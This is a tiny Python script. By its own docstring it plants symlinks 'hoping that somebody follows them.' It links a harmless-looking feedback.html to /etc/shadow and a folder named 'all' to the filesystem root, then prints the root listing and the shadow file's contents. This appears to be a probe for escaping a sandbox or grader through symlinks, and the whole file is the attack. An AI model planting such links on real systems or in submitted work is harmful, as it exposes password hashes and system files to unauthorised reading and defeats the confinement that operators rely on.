"""Makes links to files outside, and hopes that somebody follows them."""

import os

os.symlink("/etc/shadow", "feedback.html")
os.symlink("/", "all")
print(os.listdir("all/"), open("feedback.html").read())
